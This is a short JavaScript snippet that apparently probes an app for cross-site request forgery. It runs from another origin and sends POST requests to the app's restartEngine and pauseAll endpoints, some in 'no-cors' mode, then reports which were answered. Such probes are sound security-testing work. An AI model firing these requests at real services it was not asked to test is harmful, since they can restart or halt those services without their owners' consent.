// Runs within a page of another address; the one of the app is put in front as TARGET.
(async () => {
  const attempt = (path, init) =>
    fetch(`${TARGET}${path}`, { method: 'POST', ...init }).then(
      ({ status }) => `answered ${status}`,
      () => 'failed',
    );
  return {
    simple: await attempt('/shell/restartEngine', { mode: 'no-cors', body: '{}' }),
    form: await attempt('/rpc/engine/pauseAll', { mode: 'no-cors', body: '{"json":{"until":null}}' }),
    full: await attempt('/rpc/engine/pauseAll', {
      headers: { 'content-type': 'application/json' },
      body: '{"json":{"until":null}}',
    }),
  };
})();
